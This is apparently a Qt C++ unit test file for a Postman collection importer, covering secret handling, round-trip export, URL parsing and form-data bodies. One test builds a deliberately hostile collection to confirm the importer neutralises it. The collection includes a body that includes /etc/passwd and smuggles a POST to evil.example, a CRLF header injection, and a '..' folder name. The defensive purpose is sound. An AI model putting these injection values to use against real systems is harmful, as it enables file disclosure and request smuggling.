#include "core/interop/postmanimport.h"
#include "core/model/formfields.h"
#include "core/model/gatewayrequest.h"

#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTemporaryDir>
#include <QTest>

using namespace gs::core;
using namespace Qt::StringLiterals;

// A collection as Postman exports it (tabs, _postman_id, url objects, inherited
// auth, scripts, disabled entries), read into a folder that the rest of Gatescope
// reads like any other.
class TestPostmanImport final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void foldersBecomeFiles();
    void requestsAreWhatPostmanSends();
    void whatCannotBeCarriedIsNoted();
    void secretsStayOutOfTheSharedFile();
    void exportThenImportGivesTheSameFiles();
    void rejectsWhatIsNotACollection_data();
    void rejectsWhatIsNotACollection();
    void hostileCollectionIsWrittenSafely();
    void tooDeepIsRefusedWhole();
    void urlsAreWrittenAsPostmanWritesThem();
    void formDataAndFileBodies();

private:
    WireRequest load(const QString &file, const QString &name);
    PostmanImport m_import;
    QTemporaryDir m_dir;
};

void TestPostmanImport::initTestCase()
{
    QFile f(
        QStringLiteral(GATESCOPE_SOURCE_DIR "/tests/data/postman/gateway.postman_collection.json"));
    QVERIFY(f.open(QIODevice::ReadOnly));
    auto imported = importPostman(f.readAll());
    QVERIFY2(imported, qPrintable(imported ? QString() : imported.error().message));
    m_import = *imported;
    QVERIFY(m_import.writeTo(m_dir.path()));
}

WireRequest TestPostmanImport::load(const QString &file, const QString &name)
{
    const QString path = m_dir.filePath(file);
    auto http = HttpFile::load(path);
    if (!http)
        return {};
    auto envs = HttpEnvironments::loadFromDirectory(m_dir.path());
    Variables variables = envs ? envs->shared : Variables {};
    const qsizetype index = http->indexOf(name);
    if (index < 0)
        return {};
    auto resolved = resolve(http->requests()[index], variables, m_dir.path());
    if (!resolved)
        return {};
    return *resolved;
}

void TestPostmanImport::foldersBecomeFiles()
{
    QCOMPARE(m_import.name, u"AI Gateway"_s);
    QCOMPARE(m_import.requests, 4);
    QCOMPARE(m_import.files.keys(), QStringList({ u"Chat/requests.http"_s, u"requests.http"_s }));
    QVERIFY(QFile::exists(m_dir.filePath(u"http-client.env.json"_s)));
}

void TestPostmanImport::requestsAreWhatPostmanSends()
{
    const WireRequest chat = load(u"Chat/requests.http"_s, u"Streaming chat"_s);
    QCOMPARE(chat.method, "POST");
    QCOMPARE(chat.url, u"https://gateway.example.com/api/llm/chat/completions"_s);
    // Inherited bearer auth from the collection, its token from the private file.
    QCOMPARE(headerValue(chat.headers, "authorization"), "Bearer tfy-from-postman");
    QCOMPARE(headerValue(chat.headers, "content-type"), "application/json");
    QCOMPARE(headerValue(chat.headers, "x-tfy-request-timeout"), "30000");
    QVERIFY(headerValue(chat.headers, "x-debug").isNull()); // disabled
    const GatewayRequest g = decode(chat);
    QCOMPARE(g.model, u"openai-main/gpt-4o-mini"_s);
    QCOMPARE(g.requestTimeoutMs, 30000);
    // {{$guid}} became the .http file's {{$uuid}}: a fresh id on every send.
    QVERIFY(g.metadata.has_value());
    QCOMPARE(g.metadata->at(1).first, u"run"_s);
    QCOMPARE(g.metadata->at(1).second.size(), 36);

    const WireRequest models = load(u"requests.http"_s, u"List models"_s);
    QCOMPARE(models.method, "GET");
    QCOMPARE(models.url, u"https://gateway.example.com/api/llm/models?limit=10"_s);
    QCOMPARE(headerValue(models.headers, "authorization"), "Bearer tfy-other"); // its own auth

    const WireRequest form = load(u"requests.http"_s, u"Form login"_s);
    QCOMPARE(form.body, "user=a%20b");
    QCOMPARE(headerValue(form.headers, "content-type"), "application/x-www-form-urlencoded");
}

void TestPostmanImport::whatCannotBeCarriedIsNoted()
{
    const QString notes = m_import.notes.join(u'\n');
    for (const QString &expected :
        { u"Chat / Streaming chat: its scripts"_s, u"header x-debug is disabled"_s,
            u"Upload a file: the file /tmp/data.jsonl is not here"_s,
            u"Form login: oauth2 authentication"_s, u"The collection's scripts"_s })
        QVERIFY2(notes.contains(expected), qPrintable(expected + u" missing from\n"_s + notes));
}

void TestPostmanImport::secretsStayOutOfTheSharedFile()
{
    QFile shared(m_dir.filePath(u"http-client.env.json"_s));
    QVERIFY(shared.open(QIODevice::ReadOnly));
    const QByteArray text = shared.readAll();
    QVERIFY(text.contains("baseUrl"));
    QVERIFY(!text.contains("tfy-from-postman"));
    QVERIFY(!text.contains("tfy-other"));
    for (const QString &file : m_import.files.keys()) {
        QFile f(m_dir.filePath(file));
        QVERIFY(f.open(QIODevice::ReadOnly));
        const QByteArray content = f.readAll();
        QVERIFY(!content.contains("tfy-from-postman"));
        QVERIFY(!content.contains("tfy-other"));
    }
    QCOMPARE(m_import.privateVariables.value(u"token"_s), u"tfy-from-postman"_s);
}

void TestPostmanImport::exportThenImportGivesTheSameFiles()
{
    QStringList notes;
    const auto json = exportPostman(m_dir.path(), m_import.name, &notes);
    QVERIFY(json);
    QVERIFY(!json->contains("tfy-from-postman")); // the private file stays home
    QVERIFY(notes.join(u'\n').contains(u"private"_s));
    const auto again = importPostman(*json);
    QVERIFY2(again, qPrintable(again ? QString() : again.error().message));
    QCOMPARE(again->name, m_import.name);
    QCOMPARE(again->files.keys(), m_import.files.keys());
    for (const QString &file : m_import.files.keys())
        QCOMPARE(again->files.value(file), m_import.files.value(file));
    QCOMPARE(again->sharedVariables, m_import.sharedVariables);
    QVERIFY(again->privateVariables.isEmpty());
}

void TestPostmanImport::rejectsWhatIsNotACollection_data()
{
    QTest::addColumn<QByteArray>("json");
    QTest::newRow("not json") << "{oops"_ba;
    QTest::newRow("no schema") << R"({"item":[]})"_ba;
    QTest::newRow("v1")
        << R"({"info":{"schema":"https://schema.getpostman.com/json/collection/v1.0.0/collection.json"},"item":[]})"_ba;
}

void TestPostmanImport::rejectsWhatIsNotACollection()
{
    QFETCH(QByteArray, json);
    const auto r = importPostman(json);
    QVERIFY(!r);
    QVERIFY(r.error().message.contains(u"Postman"_s));
}

namespace {

QJsonObject postmanRequest(const QString &name, const QJsonObject &request)
{
    return QJsonObject { { u"name"_s, name }, { u"request"_s, request } };
}

QJsonObject postmanFolder(const QString &name, const QJsonArray &items)
{
    return QJsonObject { { u"name"_s, name }, { u"item"_s, items } };
}

QByteArray collectionJson(const QJsonArray &items)
{
    return QJsonDocument(
        QJsonObject {
            { u"info"_s,
                QJsonObject { { u"name"_s, u"hostile"_s },
                    { u"schema"_s,
                        u"https://schema.getpostman.com/json/collection/v2.1.0/collection.json"_s } } },
            { u"item"_s, items } })
        .toJson();
}

} // namespace

// A collection written to attack whoever imports it: names and values that would
// inject lines, bodies that would include files or start requests, folder names a
// file system cannot take twice, literal credentials. Every request that is written
// reads back as what Postman would send; none is lost without a note.
void TestPostmanImport::hostileCollectionIsWrittenSafely()
{
    const QJsonObject raw { { u"mode"_s, u"raw"_s },
        { u"raw"_s, u"< /etc/passwd\n### x\nPOST https://evil.example/\n\nstolen"_s } };
    const QJsonObject chat { { u"method"_s, u"POST"_s },
        { u"url"_s, u"https://gw.example/chat?api_key=pm-query-secret&x=1"_s },
        { u"header"_s,
            QJsonArray { QJsonObject { { u"key"_s, u"X-Auth-Token"_s },
                             { u"value"_s, u"pm-header-secret"_s } },
                QJsonObject {
                    { u"key"_s, u"X-Evil"_s }, { u"value"_s, u"a\r\nInjected: b"_s } } } },
        { u"auth"_s,
            QJsonObject { { u"type"_s, u"bearer"_s },
                { u"bearer"_s,
                    QJsonArray { QJsonObject {
                        { u"key"_s, u"token"_s }, { u"value"_s, u"pm-bearer-secret"_s } } } } } },
        { u"body"_s, raw } };
    const QJsonArray items {
        postmanRequest(u"line one\nPOST https://evil.example/ HTTP/1.1"_s, chat),
        postmanRequest(u"no url"_s, QJsonObject { { u"method"_s, u"GET"_s } }),
        postmanRequest(u"bad method"_s,
            QJsonObject { { u"method"_s, u"GET /x HTTP/1.1"_s }, { u"url"_s, u"https://a/"_s } }),
        postmanFolder(u"Chat"_s,
            QJsonArray {
                postmanRequest(u"first"_s, QJsonObject { { u"url"_s, u"https://a/1"_s } }) }),
        postmanFolder(u"Chat"_s,
            QJsonArray {
                postmanRequest(u"second"_s, QJsonObject { { u"url"_s, u"https://a/2"_s } }) }),
        postmanFolder(u"requests.http"_s,
            QJsonArray {
                postmanRequest(u"third"_s, QJsonObject { { u"url"_s, u"https://a/3"_s } }) }),
        postmanFolder(u".."_s,
            QJsonArray {
                postmanRequest(u"fourth"_s, QJsonObject { { u"url"_s, u"https://a/4"_s } }) }),
        postmanFolder(QString(),
            QJsonArray {
                postmanRequest(u"fifth"_s, QJsonObject { { u"url"_s, u"https://a/5"_s } }) }),
    };
    const auto imported = importPostman(collectionJson(items));
    QVERIFY2(imported, qPrintable(imported ? QString() : imported.error().message));
    const QString notes = imported->notes.join(u'\n');
    QVERIFY2(imported->requests == 6, qPrintable(notes)); // all but no URL and the bad method
    QVERIFY2(notes.contains(u"no url: The request has no URL."_s), qPrintable(notes));
    QVERIFY2(notes.contains(u"bad method"_s), qPrintable(notes));

    QTemporaryDir dir;
    const auto written = imported->writeTo(dir.path());
    QVERIFY2(written, qPrintable(written ? QString() : written.error().message));
    QCOMPARE(written->size(), 6 + 1); // five requests.http and the private environment
    QStringList names;
    const auto envs = HttpEnvironments::loadFromDirectory(dir.path());
    QVERIFY(envs);
    QVERIFY(envs->privateNames.contains(u"token"_s));
    for (const QString &path : *written) {
        if (!path.endsWith(u".http"_s))
            continue;
        QFile f(path);
        QVERIFY(f.open(QIODevice::ReadOnly));
        const QByteArray text = f.readAll();
        for (const char *secret : { "pm-query-secret", "pm-header-secret", "pm-bearer-secret" })
            QVERIFY2(!text.contains(secret), text.constData());
        const auto file = HttpFile::parse(QString::fromUtf8(text));
        QVERIFY2(file, text.constData());
        for (const HttpFileRequest &r : file->requests()) {
            names << r.name;
            std::optional<BodyInclude> include;
            const auto resolved = resolve(r, envs->variables({}).value(), dir.path(), &include);
            QVERIFY2(resolved, text.constData());
            QVERIFY(!include);
            QVERIFY(!resolved->url.contains(u"evil"_s));
            if (r.name.startsWith(u"line one"_s)) {
                QCOMPARE(resolved->url, u"https://gw.example/chat?api_key=pm-query-secret&x=1"_s);
                QCOMPARE(resolved->body,
                    "< /etc/passwd\n### x\nPOST https://evil.example/\n\nstolen"_ba);
                QCOMPARE(
                    headerValue(resolved->headers, "authorization"), "Bearer pm-bearer-secret"_ba);
                QCOMPARE(headerValue(resolved->headers, "x-auth-token"), "pm-header-secret"_ba);
                QVERIFY(headerValue(resolved->headers, "x-evil").isNull());
                QVERIFY(headerValue(resolved->headers, "injected").isNull());
            }
        }
    }
    names.sort();
    QCOMPARE(names,
        (QStringList { u"fifth"_s, u"first"_s, u"fourth"_s,
            u"line one POST https://evil.example/ HTTP/1.1"_s, u"second"_s, u"third"_s }));
#ifdef Q_OS_UNIX
    QCOMPARE(QFile::permissions(dir.filePath(u"http-client.private.env.json"_s))
            & (QFileDevice::ReadGroup | QFileDevice::ReadOther | QFileDevice::WriteGroup
                | QFileDevice::WriteOther),
        QFileDevice::Permissions());
#endif
}

void TestPostmanImport::tooDeepIsRefusedWhole()
{
    for (const int depth : { 100, 1000 }) {
        QJsonArray items { postmanRequest(
            u"leaf"_s, QJsonObject { { u"url"_s, u"https://a/"_s } }) };
        QByteArray json;
        if (depth < 500) {
            for (int i = 0; i < depth; ++i)
                items = QJsonArray { postmanFolder(u"f"_s, items) };
            json = collectionJson(items);
        } else {
            // Deeper than a JSON document can be built in memory here: written as text.
            json
                = R"({"info":{"schema":"https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},"item":)"_ba;
            for (int i = 0; i < depth; ++i)
                json += R"([{"name":"f","item":)";
            json += "[]";
            for (int i = 0; i < depth; ++i)
                json += "}]";
            json += "}";
        }
        const auto r = importPostman(json);
        QVERIFY(!r);
        QVERIFY2(r.error().message.contains(u"deep"_s), qPrintable(r.error().message));
        QVERIFY2(!r.error().message.contains(u"not a Postman"_s, Qt::CaseInsensitive),
            qPrintable(r.error().message));
    }
}

// The exported URL has Postman's parts beside its raw text, variables intact: newman
// sends from the parts (tests/interop/newman-run runs the export).
void TestPostmanImport::urlsAreWrittenAsPostmanWritesThem()
{
    const QJsonObject variable = postmanUrl(u"{{baseUrl}}/chat/completions"_s);
    QCOMPARE(variable.value(u"raw"_s).toString(), u"{{baseUrl}}/chat/completions"_s);
    QCOMPARE(variable.value(u"host"_s).toArray(), QJsonArray { u"{{baseUrl}}"_s });
    QCOMPARE(variable.value(u"path"_s).toArray(), (QJsonArray { u"chat"_s, u"completions"_s }));
    QVERIFY(!variable.contains(u"protocol"_s) && !variable.contains(u"port"_s));

    const QJsonObject full = postmanUrl(
        u"https://gw.{{domain.name}}:8443/api/llm/files?purpose=batch&after={{cursor}}&x#top"_s);
    QCOMPARE(full.value(u"protocol"_s).toString(), u"https"_s);
    QCOMPARE(full.value(u"host"_s).toArray(), (QJsonArray { u"gw"_s, u"{{domain.name}}"_s }));
    QCOMPARE(full.value(u"port"_s).toString(), u"8443"_s);
    QCOMPARE(full.value(u"path"_s).toArray(), (QJsonArray { u"api"_s, u"llm"_s, u"files"_s }));
    const QJsonArray query = full.value(u"query"_s).toArray();
    QCOMPARE(query.size(), 3);
    QCOMPARE(query[0].toObject().value(u"key"_s).toString(), u"purpose"_s);
    QCOMPARE(query[0].toObject().value(u"value"_s).toString(), u"batch"_s);
    QCOMPARE(query[1].toObject().value(u"value"_s).toString(), u"{{cursor}}"_s);
    QVERIFY(query[2].toObject().value(u"value"_s).isNull());

    const QJsonObject loopback = postmanUrl(u"http://[::1]:{{port}}/models"_s);
    QCOMPARE(loopback.value(u"host"_s).toArray(), QJsonArray { u"[::1]"_s });
    QCOMPARE(loopback.value(u"port"_s).toString(), u"{{port}}"_s);
}

// Postman's form-data (text fields, files by path, several files for one key) and
// file bodies become multipart and "< file" bodies that send the same parts; exported
// again they are form-data and file bodies, paths from the collection's folder.
void TestPostmanImport::formDataAndFileBodies()
{
    QTemporaryDir dir;
    const QString data = dir.filePath(u"data.jsonl"_s);
    QFile file(data);
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write("{\"custom_id\":\"a\"}\n");
    file.close();
    const QJsonArray formdata {
        QJsonObject {
            { u"key"_s, u"purpose"_s }, { u"value"_s, u"batch"_s }, { u"type"_s, u"text"_s } },
        QJsonObject { { u"key"_s, u"note"_s }, { u"value"_s, u"two\nlines < x"_s },
            { u"type"_s, u"text"_s } },
        QJsonObject { { u"key"_s, u"off"_s }, { u"value"_s, u"x"_s }, { u"disabled"_s, true } },
        QJsonObject { { u"key"_s, u"file"_s }, { u"type"_s, u"file"_s }, { u"src"_s, data },
            { u"contentType"_s, u"application/jsonl"_s } },
        QJsonObject {
            { u"key"_s, u"gone"_s }, { u"type"_s, u"file"_s }, { u"src"_s, u"/nowhere/x.bin"_s } },
    };
    const QJsonArray items {
        QJsonObject { { u"name"_s, u"upload"_s },
            { u"request"_s,
                QJsonObject { { u"method"_s, u"POST"_s },
                    { u"url"_s, u"https://gw.example/files"_s },
                    { u"body"_s,
                        QJsonObject {
                            { u"mode"_s, u"formdata"_s }, { u"formdata"_s, formdata } } } } } },
        QJsonObject { { u"name"_s, u"whole"_s },
            { u"request"_s,
                QJsonObject { { u"method"_s, u"PUT"_s }, { u"url"_s, u"https://gw.example/put"_s },
                    { u"body"_s,
                        QJsonObject { { u"mode"_s, u"file"_s },
                            { u"file"_s, QJsonObject { { u"src"_s, data } } } } } } } },
    };
    const auto imported = importPostman(collectionJson(items));
    QVERIFY(imported);
    const QString notes = imported->notes.join(u'\n');
    QVERIFY2(notes.contains(u"the file /nowhere/x.bin is not here"_s), qPrintable(notes));
    QVERIFY2(notes.contains(u"form field off is disabled"_s), qPrintable(notes));
    const QString text = imported->files.value(u"requests.http"_s);
    const auto parsed = HttpFile::parse(text);
    QVERIFY2(parsed, qPrintable(text));
    QCOMPARE(parsed->requests().size(), 2);
    const auto upload = resolve(parsed->requests()[0], {}, dir.path());
    // The missing file stops it, naming the path; without that part it goes out whole.
    QVERIFY(!upload && upload.error().message.contains(u"/nowhere/x.bin"_s));
    HttpFileRequest withoutGone = parsed->requests()[0]; // the part cut out, as a user would
    const qsizetype goneAt
        = withoutGone.body.indexOf(u"Content-Disposition: form-data; name=\"gone\""_s);
    QVERIFY(goneAt > 0);
    const qsizetype goneEnd = withoutGone.body.indexOf(u"--gatescope"_s, goneAt);
    withoutGone.body.remove(goneAt - QStringView(u"--gatescope-postman-form\n").size(),
        goneEnd - goneAt + QStringView(u"--gatescope-postman-form\n").size());
    const auto resolved = resolve(withoutGone, {}, dir.path());
    QVERIFY2(resolved, qPrintable(withoutGone.body));
    const auto fields = formFields(*resolved);
    QVERIFY2(fields, resolved->body.constData());
    QCOMPARE(fields->size(), 3);
    QCOMPARE((*fields)[0].value, "batch");
    QCOMPARE((*fields)[1].value, "two\nlines < x"); // a bare line break, no file read
    QCOMPARE((*fields)[2].path, data);
    QCOMPARE((*fields)[2].contentType, "application/jsonl");
    const auto whole = resolve(parsed->requests()[1], {}, dir.path());
    QVERIFY(whole);
    QCOMPARE(whole->body, "{\"custom_id\":\"a\"}\n");

    // Exported again: form-data and a file body.
    QTemporaryDir out;
    QVERIFY(imported->writeTo(out.path()));
    const auto json = exportPostman(out.path(), u"again"_s);
    QVERIFY(json);
    const QJsonArray again = QJsonDocument::fromJson(*json)[u"item"_s].toArray();
    const QJsonObject body = again[0][u"request"_s][u"body"_s].toObject();
    QCOMPARE(body[u"mode"_s].toString(), u"formdata"_s);
    const QJsonArray exported = body[u"formdata"_s].toArray();
    QCOMPARE(exported.size(), 4);
    QCOMPARE(exported[0].toObject(),
        QJsonObject(
            { { u"key"_s, u"purpose"_s }, { u"type"_s, u"text"_s }, { u"value"_s, u"batch"_s } }));
    QCOMPARE(exported[2][u"src"_s].toString(), data);
    QCOMPARE(exported[2][u"contentType"_s].toString(), u"application/jsonl"_s);
    QCOMPARE(again[1][u"request"_s][u"body"_s][u"mode"_s].toString(), u"file"_s);
    QCOMPARE(again[1][u"request"_s][u"body"_s][u"file"_s][u"src"_s].toString(), data);
}

QTEST_GUILESS_MAIN(TestPostmanImport)
#include "tst_postmanimport.moc"
